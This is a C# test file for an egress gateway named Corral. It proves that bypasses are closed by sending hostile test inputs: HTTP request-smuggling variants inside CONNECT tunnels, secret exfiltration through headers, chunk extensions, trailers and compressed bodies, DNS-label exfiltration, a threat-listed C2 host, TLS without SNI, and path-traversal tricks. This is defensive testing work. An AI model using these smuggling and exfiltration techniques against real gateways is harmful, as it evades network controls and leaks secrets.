using System.IO.Compression;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Text.Json;
using Corral.Certificates;
using Corral.Gateway.Resolution;
using Corral.Gateway.Tests.Support;
using Corral.Testing;

namespace Corral.Gateway.Tests;

/// <summary>
/// The ways out an attacker found where the gateway handled the same thing twice, each closed in the structure
/// (one HTTP parser and request pipeline, one flow session, decide before resolve) and proven here over real sockets.
/// </summary>
public sealed class BypassTests
{
    private const string Secret = "AKIAIOSFODNN7EXAMPLE";

    // tools.example.test is permitted on 80, 8080 and 443 by name; c2.evil.test is threat-listed; the rest of the internet is denied.
    private const string Policy = """
        version: 1
        name: bypass-test
        defaultAction: deny
        smartGroups:
          agents: { cidrs: [127.0.0.0/8] }
        threatGroups:
          threats: { feeds: [feeds/threat-domains.txt] }
        webGroups:
          tools: { domains: [tools.example.test] }
          filtered: { urls: ["filtered.example.test/v1/allowed/*"] }
        rules:
          - { name: deny-threat-intel, priority: 1, source: [agents], destination: [threats], action: deny }
          - { name: allow-tools, priority: 2, source: [agents], webGroups: [tools], action: permit, ports: [80, 8080, 443], decrypt: allowed }
          - { name: allow-filtered, priority: 3, source: [agents], webGroups: [filtered], action: permit, ports: [80, 443], decrypt: allowed }
          - { name: default-deny-internet, priority: 4, source: [agents], destination: [public-internet], action: deny }
        """;

    private static readonly Dictionary<string, string> Feeds = new() { ["feeds/threat-domains.txt"] = "c2.evil.test\n" };

    private static GatewayHarness Gateway(LoopbackUpstream upstream, CountingResolver? counting = null, GatewayInterception? interception = null) =>
        GatewayHarness.Custom(Policy, $"{upstream.EndPoint.Address} tools.example.test evil.example.test filtered.example.test secret-abc123.evil.example.test c2.evil.test\n",
            files: Feeds, wrapResolver: counting is null ? null : inner => counting.Wrap(inner), interception: interception);

    private static async Task<NetworkStream> ConnectTunnelAsync(TcpClient tcp, string authority)
    {
        var stream = tcp.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n"));
        var (status, _, _) = await RawHttp.ReadResponseAsync(stream);
        Assert.Equal(200, status);
        return stream;
    }

    // ---- 1. A non-TLS tunnel is HTTP through the request pipeline: every request is checked ----

    [Fact]
    public async Task A_kept_alive_second_request_in_a_tunnel_naming_another_host_is_refused_and_never_reaches_the_upstream()
    {
        await using var upstream = LoopbackUpstream.Start(80);
        await using var gw = Gateway(upstream);
        using var tcp = await gw.RawAsync();
        var stream = await ConnectTunnelAsync(tcp, $"tools.example.test:{upstream.EndPoint.Port}");

        await stream.WriteAsync("GET /first HTTP/1.1\r\nHost: tools.example.test\r\n\r\n"u8.ToArray());
        var (first, _, _) = await RawHttp.ReadResponseAsync(stream);
        await stream.WriteAsync("GET /second HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"u8.ToArray());
        var (second, head, body) = await RawHttp.ReadResponseAsync(stream);

        Assert.Equal(200, first);
        Assert.Equal(403, second);
        Assert.Contains("X-Corral-Check: name-mismatch", head);
        Assert.Contains("evil.example.test", body);
        lock (upstream.Requests) Assert.Equal(["GET /first HTTP/1.1"], upstream.Requests);
        var records = await gw.WaitForRecordsAsync(rs => rs.Count(r => r.GetProperty("event").GetString() == "request") == 2);
        var refused = records.Single(r => r.GetProperty("event").GetString() == "request" && r.GetProperty("action").GetString() == "deny");
        Assert.Equal("name-mismatch", refused.GetProperty("check").GetString());
    }

    [Theory]
    [InlineData("leading-crlf", "\r\nGET / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n", "name-mismatch")]
    [InlineData("absolute-target", "GET http://evil.example.test/ HTTP/1.1\r\nHost: tools.example.test\r\n\r\n", "name-mismatch")]
    [InlineData("obs-fold", "GET / HTTP/1.1\r\nHost: tools.example.test\r\nX-A: a\r\n b\r\n\r\n", "malformed-request")]
    [InlineData("bare-lf", "GET / HTTP/1.1\nHost: tools.example.test\n\n", "malformed-request")]
    [InlineData("double-space", "GET  / HTTP/1.1\r\nHost: evil.example.test\r\n\r\n", "malformed-request")]
    [InlineData("tab", "GET\t/ HTTP/1.1\r\nHost: evil.example.test\r\n\r\n", "malformed-request")]
    [InlineData("trailing-space", "GET / HTTP/1.1 \r\nHost: evil.example.test\r\n\r\n", "malformed-request")]
    [InlineData("http-0.9", "GET /\r\n\r\n", "malformed-request")]
    public async Task An_http_stream_in_a_tunnel_that_the_parser_refuses_or_that_names_another_host_is_refused_never_spliced(string name, string request, string check)
    {
        await using var upstream = LoopbackUpstream.Start(80);
        await using var gw = Gateway(upstream);
        using var tcp = await gw.RawAsync();
        var stream = await ConnectTunnelAsync(tcp, $"tools.example.test:{upstream.EndPoint.Port}");

        // The first line on its own, then the rest: the stream is judged before its head is complete.
        var firstLineEnd = request.IndexOf('\n', request.IndexOf(request.TrimStart('\r', '\n')[0])) + 1;
        await stream.WriteAsync(Encoding.ASCII.GetBytes(request[..firstLineEnd]));
        await Task.Delay(300);
        try { await stream.WriteAsync(Encoding.ASCII.GetBytes(request[firstLineEnd..])); }
        catch (IOException) { } // refused on the first line already
        var (status, head, _) = await RawHttp.ReadResponseAsync(stream);

        Assert.True(status is 400 or 403, $"{name}: got {status}");
        Assert.Contains($"X-Corral-Check: {check}", head);
        Assert.Equal(0, upstream.BytesReceived);
        var (decision, _) = await gw.FlowAsync(r => r.GetProperty("method").ValueKind == JsonValueKind.String && r.GetProperty("method").GetString() == "CONNECT");
        if (check == "malformed-request") Assert.Equal(check, decision.GetProperty("check").GetString()); // refused before any request was read
        else Assert.Equal("allow-tools", decision.GetProperty("rule").GetString()); // the tunnel is permitted; its request is refused
    }

    // ---- 2. Plain HTTP is inspected like decrypted HTTP: headers, bodies, chunk extensions, trailers, content codings ----

    [Theory]
    [InlineData("body", "POST http://tools.example.test:{port}/upload HTTP/1.1\r\nHost: tools.example.test:{port}\r\nContent-Length: 30\r\n\r\n{\"key\":\"AKIAIOSFODNN7EXAMPLE\"}")]
    [InlineData("header", "GET http://tools.example.test:{port}/ HTTP/1.1\r\nHost: tools.example.test:{port}\r\nX-Api-Key: AKIAIOSFODNN7EXAMPLE\r\n\r\n")]
    [InlineData("chunk-extension", "POST http://tools.example.test:{port}/ HTTP/1.1\r\nHost: tools.example.test:{port}\r\nTransfer-Encoding: chunked\r\n\r\n5;k=AKIAIOSFODNN7EXAMPLE\r\nhello\r\n0\r\n\r\n")]
    [InlineData("trailer", "POST http://tools.example.test:{port}/ HTTP/1.1\r\nHost: tools.example.test:{port}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\nX-Key: AKIAIOSFODNN7EXAMPLE\r\n\r\n")]
    public async Task A_secret_in_plain_http_is_found_and_never_forwarded(string name, string template)
    {
        await using var upstream = LoopbackUpstream.Start(80);
        await using var gw = Gateway(upstream);
        using var tcp = await gw.RawAsync();
        var stream = tcp.GetStream();

        await stream.WriteAsync(Encoding.ASCII.GetBytes(template.Replace("{port}", upstream.EndPoint.Port.ToString())));
        var (status, head, body) = await RawHttp.ReadResponseAsync(stream);

        Assert.True(status == 403, $"{name}: got {status}");
        Assert.Contains("X-Corral-Check: payload-inspection", head);
        Assert.Contains("aws-access-key", body);
        Assert.DoesNotContain(Secret, body);
        // A streamed (chunked) body's head may already be upstream when the secret turns up; the secret never is, and
        // that upstream connection is dropped so the request never completes.
        await Task.Delay(200);
        lock (upstream.Requests) Assert.DoesNotContain(upstream.Heads, h => h.Contains(Secret));
        Assert.DoesNotContain(upstream.Heads.ToArray(), h => h.StartsWith("POST") && name is "body" or "header");
    }

    [Theory]
    [InlineData("gzip")]
    [InlineData("deflate")]
    [InlineData("br")]
    public async Task A_secret_in_a_compressed_body_is_decoded_and_found(string coding)
    {
        await using var upstream = LoopbackUpstream.Start(80);
        await using var gw = Gateway(upstream);
        using var tcp = await gw.RawAsync();
        var stream = tcp.GetStream();
        var body = Compress(coding, Encoding.UTF8.GetBytes($"{{\"notes\":\"{Secret}\"}}"));

        var head = $"POST http://tools.example.test:{upstream.EndPoint.Port}/ HTTP/1.1\r\nHost: tools.example.test:{upstream.EndPoint.Port}\r\nContent-Encoding: {coding}\r\nContent-Length: {body.Length}\r\n\r\n";
        await stream.WriteAsync(Encoding.ASCII.GetBytes(head).Concat(body).ToArray());
        var (status, responseHead, _) = await RawHttp.ReadResponseAsync(stream);

        Assert.Equal(403, status);
        Assert.Contains("X-Corral-Check: payload-inspection", responseHead);
        Assert.Equal(0, upstream.Connections);
    }

    [Fact]
    public async Task A_body_in_an_unknown_or_broken_coding_is_refused_when_inspecting_and_a_clean_compressed_body_passes()
    {
        await using var upstream = LoopbackUpstream.Start(80);
        await using var gw = Gateway(upstream);
        var port = upstream.EndPoint.Port;
        async Task<(int, string)> PostAsync(string coding, byte[] body)
        {
            using var tcp = await gw.RawAsync();
            var stream = tcp.GetStream();
            var head = $"POST http://tools.example.test:{port}/ HTTP/1.1\r\nHost: tools.example.test:{port}\r\nContent-Encoding: {coding}\r\nContent-Length: {body.Length}\r\n\r\n";
            await stream.WriteAsync(Encoding.ASCII.GetBytes(head).Concat(body).ToArray());
            var (status, responseHead, _) = await RawHttp.ReadResponseAsync(stream);
            return (status, responseHead);
        }

        var (unknown, unknownHead) = await PostAsync("zstd", [1, 2, 3]);
        var (broken, _) = await PostAsync("gzip", [1, 2, 3, 4, 5]);
        var (clean, _) = await PostAsync("gzip", Compress("gzip", "{\"q\":\"weather in Oslo\"}"u8.ToArray()));

        Assert.Equal(415, unknown);
        Assert.Contains("X-Corral-Check: uninspectable-body", unknownHead);
        Assert.Equal(415, broken);
        Assert.Equal(200, clean);
    }

    [Fact]
    public async Task A_secret_in_a_decrypted_compressed_body_is_found()
    {
        using var ca = CertificateAuthority.Create(new CaOptions());
        await using var upstream = LoopbackUpstream.Start(443, "tools.example.test");
        await using var gw = GatewayHarness.Custom(Policy, $"{upstream.EndPoint.Address} tools.example.test\n", files: Feeds,
            interception: new GatewayInterception(ca, [upstream.Certificate!]));
        using var client = TrustingClient(gw, ca);
        var content = new ByteArrayContent(Compress("gzip", Encoding.UTF8.GetBytes($"{{\"notes\":\"{Secret}\"}}")));
        content.Headers.ContentEncoding.Add("gzip");

        var response = await client.PostAsync($"https://tools.example.test:{upstream.EndPoint.Port}/upload".Replace($":{upstream.EndPoint.Port}", ""), content);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.Equal("payload-inspection", response.Headers.GetValues("X-Corral-Check").Single());
        lock (upstream.Requests) Assert.DoesNotContain(upstream.Requests, r => r.StartsWith("POST"));
    }

    // ---- 3. Decide before resolve: no DNS query for a name the policy denies whatever its address ----

    [Theory]
    [InlineData("CONNECT secret-abc123.evil.example.test:443 HTTP/1.1\r\n\r\n", "secret-abc123.evil.example.test", "default-deny-internet")]
    [InlineData("GET http://secret-abc123.evil.example.test/ HTTP/1.1\r\nHost: secret-abc123.evil.example.test\r\n\r\n", "secret-abc123.evil.example.test", "default-deny-internet")]
    [InlineData("CONNECT c2.evil.test:443 HTTP/1.1\r\n\r\n", "c2.evil.test", "deny-threat-intel")]
    [InlineData("CONNECT tools.example.test:22 HTTP/1.1\r\n\r\n", "tools.example.test", "default-deny-internet")]
    public async Task A_name_no_permit_can_reach_is_denied_without_a_dns_query(string request, string host, string rule)
    {
        await using var upstream = LoopbackUpstream.Start(443);
        var counting = new CountingResolver();
        await using var gw = Gateway(upstream, counting);
        using var tcp = await gw.RawAsync();
        var stream = tcp.GetStream();

        await stream.WriteAsync(Encoding.ASCII.GetBytes(request));
        var (status, head, _) = await RawHttp.ReadResponseAsync(stream);

        Assert.Equal(403, status);
        Assert.Contains($"X-Corral-Rule: {rule}", head);
        Assert.Empty(counting.Asked);
        var (decision, _) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == host);
        Assert.Equal(rule, decision.GetProperty("rule").GetString());
    }

    [Fact]
    public async Task A_permitted_name_is_still_resolved_by_the_gateway()
    {
        await using var upstream = LoopbackUpstream.Start(80);
        var counting = new CountingResolver();
        await using var gw = Gateway(upstream, counting);
        using var client = gw.Client();

        Assert.Contains("GET /ok", await client.GetStringAsync($"http://tools.example.test:{upstream.EndPoint.Port}/ok"));
        Assert.Equal(["tools.example.test"], counting.Asked);
    }

    // ---- 4. TLS without SNI to a named destination ----

    [Fact]
    public async Task Tls_without_sni_after_connect_to_a_name_is_refused_and_nothing_reaches_the_upstream()
    {
        await using var upstream = LoopbackUpstream.Start(443, "tools.example.test");
        await using var gw = Gateway(upstream);
        using var tcp = await gw.RawAsync();
        var stream = await ConnectTunnelAsync(tcp, "tools.example.test:443");

        await stream.WriteAsync(ClientHelloBuilder.Hello(null));
        var rest = await RawHttp.ReadToCloseAsync(stream, 10);

        Assert.True(rest.Length > 0 && rest[0] == 0x15, "expected a TLS alert");
        Assert.Equal(0, upstream.BytesReceived);
        var (decision, _) = await gw.FlowAsync(r => r.GetProperty("method").ValueKind == JsonValueKind.String && r.GetProperty("method").GetString() == "CONNECT");
        Assert.Equal("no-sni", decision.GetProperty("check").GetString());
    }

    // ---- 5. Over-blocks: queries are never read for fronting; paths are strict only where a URL filter must match ----

    [Theory]
    [InlineData("/login?redirect_uri=https://x.api.example/cb")]
    [InlineData("/api/v4/projects/group%2Fproject")]
    [InlineData("/v1//items")]
    public async Task A_legitimate_path_is_not_refused_in_plain_http_or_decrypted_tls(string path)
    {
        await using var plain = LoopbackUpstream.Start(80);
        await using (var gw = Gateway(plain))
        using (var client = gw.Client())
        {
            var response = await client.GetAsync($"http://tools.example.test:{plain.EndPoint.Port}{path}");
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        }

        using var ca = CertificateAuthority.Create(new CaOptions());
        await using var tls = LoopbackUpstream.Start(443, "tools.example.test");
        await using var decrypting = GatewayHarness.Custom(Policy, $"{tls.EndPoint.Address} tools.example.test\n", files: Feeds,
            interception: new GatewayInterception(ca, [tls.Certificate!]));
        using var decrypted = TrustingClient(decrypting, ca);
        var intercepted = await decrypted.GetAsync($"https://tools.example.test{path}");
        Assert.Equal(HttpStatusCode.OK, intercepted.StatusCode);
        lock (tls.Requests) Assert.Contains(tls.Requests, r => r.StartsWith("GET "));
    }

    [Theory]
    [InlineData("/v1/allowed/..%2F..%2Fsecret")]
    [InlineData("/v1/allowed/../../secret")]
    [InlineData("/v1/allowed%2F..%2F..%2Fsecret")]
    public async Task An_ambiguous_path_matches_no_url_filter(string path)
    {
        await using var upstream = LoopbackUpstream.Start(80);
        await using var gw = Gateway(upstream);
        using var tcp = await gw.RawAsync();
        var stream = tcp.GetStream();

        await stream.WriteAsync(Encoding.ASCII.GetBytes($"GET http://filtered.example.test{path} HTTP/1.1\r\nHost: filtered.example.test\r\n\r\n"));
        var (status, _, _) = await RawHttp.ReadResponseAsync(stream);

        Assert.NotEqual(200, status);
        lock (upstream.Requests) Assert.Empty(upstream.Requests);
    }

    // ---- 6. Robustness ----

    [Fact]
    public async Task Chunk_data_not_followed_by_crlf_is_refused()
    {
        await using var upstream = LoopbackUpstream.Start(80);
        await using var gw = Gateway(upstream);
        using var tcp = await gw.RawAsync();
        var stream = tcp.GetStream();

        var port = upstream.EndPoint.Port;
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"POST http://tools.example.test:{port}/ HTTP/1.1\r\nHost: tools.example.test:{port}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhelloXY0\r\n\r\n"));
        var (status, head, _) = await RawHttp.ReadResponseAsync(stream);

        Assert.Equal(400, status);
        Assert.Contains("X-Corral-Check: malformed-request", head);
    }

    [Fact]
    public async Task A_bare_lf_head_is_refused_at_once_not_after_the_head_timeout()
    {
        await using var upstream = LoopbackUpstream.Start(80);
        await using var gw = Gateway(upstream);
        using var tcp = await gw.RawAsync();
        var stream = tcp.GetStream();

        await stream.WriteAsync("GET http://tools.example.test/ HTTP/1.1\nHost: tools.example.test\n\n"u8.ToArray());
        using var within = new CancellationTokenSource(TimeSpan.FromSeconds(5)); // the head timeout is 10 s
        var read = RawHttp.ReadResponseAsync(stream);
        var (status, _, body) = await read.WaitAsync(within.Token);

        Assert.Equal(400, status);
        Assert.Contains("bare LF", body);
    }

    [Fact]
    public async Task Plain_http_to_port_443_is_refused()
    {
        await using var upstream = LoopbackUpstream.Start(443);
        await using var gw = Gateway(upstream);
        using var tcp = await gw.RawAsync();
        var stream = tcp.GetStream();

        await stream.WriteAsync("GET http://tools.example.test:443/ HTTP/1.1\r\nHost: tools.example.test:443\r\n\r\n"u8.ToArray());
        var (status, head, _) = await RawHttp.ReadResponseAsync(stream);

        Assert.Equal(403, status);
        Assert.Contains("X-Corral-Check: not-tls-on-443", head);
        Assert.Equal(0, upstream.Connections);
    }

    // ---- 7. One refusal shape everywhere, and every refusal names its rule or check ----

    [Fact]
    public async Task Explicit_and_decrypted_denials_share_one_body_and_a_url_filter_denial_is_logged_with_its_rule()
    {
        using var ca = CertificateAuthority.Create(new CaOptions());
        await using var tls = LoopbackUpstream.Start(443, "filtered.example.test");
        await using var gw = GatewayHarness.Custom(Policy, $"{tls.EndPoint.Address} filtered.example.test\n127.0.0.1 denied.example.test\n", files: Feeds,
            interception: new GatewayInterception(ca, [tls.Certificate!]));
        using var client = TrustingClient(gw, ca);

        var decrypted = await client.GetAsync("https://filtered.example.test/v1/other");
        var decryptedBody = JsonDocument.Parse(await decrypted.Content.ReadAsStringAsync()).RootElement;
        using var tcp = await gw.RawAsync();
        var stream = tcp.GetStream();
        await stream.WriteAsync("CONNECT denied.example.test:443 HTTP/1.1\r\n\r\n"u8.ToArray());
        var (_, _, explicitText) = await RawHttp.ReadResponseAsync(stream);
        var explicitBody = JsonDocument.Parse(explicitText).RootElement;
        using var bad = await gw.RawAsync();
        await bad.GetStream().WriteAsync("GARBAGE\r\n\r\n"u8.ToArray());
        var (badStatus, _, badText) = await RawHttp.ReadResponseAsync(bad.GetStream());

        string[] Keys(JsonElement e) => e.EnumerateObject().Select(p => p.Name).Order().ToArray();
        Assert.Equal(HttpStatusCode.Forbidden, decrypted.StatusCode);
        Assert.Equal(Keys(explicitBody), Keys(decryptedBody));
        Assert.Equal("blocked_by_policy", decryptedBody.GetProperty("error").GetString());
        Assert.Equal("default-deny-internet", decrypted.Headers.GetValues("X-Corral-Rule").Single()); // the URL filter did not match
        Assert.Equal(400, badStatus);
        Assert.Contains("Do not retry", JsonDocument.Parse(badText).RootElement.GetProperty("advice").GetString());
        var records = await gw.WaitForRecordsAsync(rs => rs.Any(x => x.GetProperty("event").GetString() == "request"));
        var request = records.Single(x => x.GetProperty("event").GetString() == "request");
        Assert.Equal("deny", request.GetProperty("action").GetString());
        Assert.Equal(decrypted.Headers.GetValues("X-Corral-Rule").Single(), request.GetProperty("rule").GetString());
    }

    private static HttpClient TrustingClient(GatewayHarness gw, CertificateAuthority ca) =>
        new(new SocketsHttpHandler
        {
            Proxy = new WebProxy($"http://{gw.Proxy}"),
            UseProxy = true,
            SslOptions = new SslClientAuthenticationOptions { RemoteCertificateValidationCallback = (_, cert, _, _) => cert is not null && new X509Certificate2(cert).Issuer == ca.Certificate.Subject },
        }) { Timeout = TimeSpan.FromSeconds(30) };

    private static byte[] Compress(string coding, byte[] data)
    {
        var output = new MemoryStream();
        using (Stream encoder = coding switch
        {
            "gzip" => new GZipStream(output, CompressionLevel.Fastest, leaveOpen: true),
            "deflate" => new ZLibStream(output, CompressionLevel.Fastest, leaveOpen: true),
            _ => new BrotliStream(output, CompressionLevel.Fastest, leaveOpen: true),
        })
            encoder.Write(data);
        return output.ToArray();
    }

    /// <summary>Records every name the gateway asks its resolver for.</summary>
    private sealed class CountingResolver
    {
        public List<string> Asked { get; } = [];

        public IResolver Wrap(IResolver inner) => new Counting(this, inner);

        private sealed class Counting(CountingResolver owner, IResolver inner) : IResolver
        {
            public ValueTask<IReadOnlyList<IPAddress>> ResolveAsync(string host, CancellationToken ct)
            {
                lock (owner.Asked) owner.Asked.Add(host);
                return inner.ResolveAsync(host, ct);
            }
        }
    }
}
